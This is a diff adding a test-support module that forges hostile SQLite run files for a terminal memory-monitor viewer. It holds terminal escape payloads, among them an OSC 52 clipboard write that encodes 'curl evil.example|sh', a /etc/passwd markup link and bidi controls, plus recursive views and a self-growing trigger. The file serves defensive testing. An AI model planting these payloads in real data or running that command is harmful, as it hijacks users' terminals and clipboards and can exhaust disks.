@@ -1,0 +1,67 @@
+"""Crafted run files, made in the test from a real recorded run: the attacks of issue #11."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import sqlite3
+from pathlib import Path
+
+from tui_support import run_path
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # OSC 52: "curl evil.example|sh"
+TITLE = "\x1b]2;pwned\x07"  # OSC 2: the window title
+LINK = "[link=file:///etc/passwd]x[/link]"  # Rich markup: an OSC 8 hyperlink if interpreted
+HOSTILE = f"h{CLIPBOARD}{TITLE}{LINK}[bold red]r[/] [/data/train.csv]\u202ee\x9b31m\x00"
+STRING_META = ("run_id", "label", "status", "cause", "weights", "weights_note", "model",
+               "backend", "host", "cpu", "python")
+
+
+def copy_of_a_real_run(target: Path) -> Path:
+    shutil.copyfile(run_path("torch"), target)
+    return target
+
+
+def set_meta(db: sqlite3.Connection, values: dict) -> None:
+    db.executemany("INSERT OR REPLACE INTO meta VALUES (?, ?)",
+                   [(k, json.dumps(v)) for k, v in values.items()])
+
+
+def hostile_strings(target: Path, run_id: str = f"r{HOSTILE}") -> Path:
+    """Escape sequences and markup in every string a run file holds."""
+    copy_of_a_real_run(target)
+    with sqlite3.connect(target) as db:
+        set_meta(db, {**{key: f"{key}{HOSTILE}" for key in STRING_META}, "run_id": run_id,
+                      "command": ["python", f"train{HOSTILE}.py"], "summary": None,
+                      "foreign_frameworks": [f"tf{HOSTILE}"], "devices": [f"cpu{HOSTILE}"],
+                      "versions": {"keras": f"3{HOSTILE}"}})
+        for seq, data in db.execute("SELECT seq, data FROM stages").fetchall():
+            stage = json.loads(data)
+            stage["name"] = f"{stage['name']}{HOSTILE}"
+            db.execute("UPDATE stages SET name = ?, data = ? WHERE seq = ?",
+                       (stage["name"], json.dumps(stage), seq))
+        db.execute("INSERT INTO events VALUES (560.0, 'swap', 'warning', ?, NULL)",
+                   (f"swap alarm {HOSTILE}",))
+        db.execute("UPDATE events SET message = ? WHERE kind = 'end'", (f"done {HOSTILE}",))
+    return target
+
+
+def with_schema_object(target: Path, kind: str) -> Path:
+    """A run file holding a view, a trigger or a table that memtop did not write."""
+    copy_of_a_real_run(target)
+    with sqlite3.connect(target) as db:
+        if kind == "recursive view":  # reading `samples` would fill the disk
+            db.execute("DROP TABLE samples")
+            db.execute("CREATE VIEW samples AS WITH RECURSIVE n(t, rss) AS "
+                       "(SELECT 0.0, 1 UNION ALL SELECT t + 1, rss FROM n) SELECT t, rss FROM n")
+        elif kind == "view as stages":
+            db.execute("ALTER TABLE stages RENAME TO stages_real")
+            db.execute("CREATE VIEW stages AS WITH RECURSIVE n(seq, name, t, t_end, data) AS "
+                       "(SELECT 1, 'x', 0.0, 0.0, '{}' UNION ALL "
+                       "SELECT seq + 1, name, t, t_end, data FROM n) SELECT * FROM n")
+        elif kind == "trigger":
+            db.execute("CREATE TRIGGER grow AFTER INSERT ON events BEGIN "
+                       "INSERT INTO events VALUES (0, 'x', 'info', 'x', NULL); END")
+        elif kind == "extra table":
+            db.execute("CREATE TABLE payload (x BLOB)")
+    return target
